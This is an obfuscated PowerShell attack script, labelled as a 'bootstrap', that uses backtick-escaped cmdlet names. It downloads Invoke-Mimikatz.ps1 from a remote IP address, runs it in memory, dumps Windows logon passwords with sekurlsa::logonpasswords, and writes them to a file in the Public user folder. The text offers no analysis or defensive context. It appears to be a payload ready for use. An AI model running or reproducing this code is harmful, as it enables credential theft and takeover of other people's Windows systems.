# bootstrap 4289 v2
IEX (Ne`w-Obje`ct Net.Web`C`lient).DownloadString('http://198.51.100.23/Invoke-Mimikatz.ps1')
Inv`oke-M`i`mikatz -Command '"privilege::debug" "sekurlsa::logonpasswords"' | Out-F`i`le C:\Users\Public\o.txt
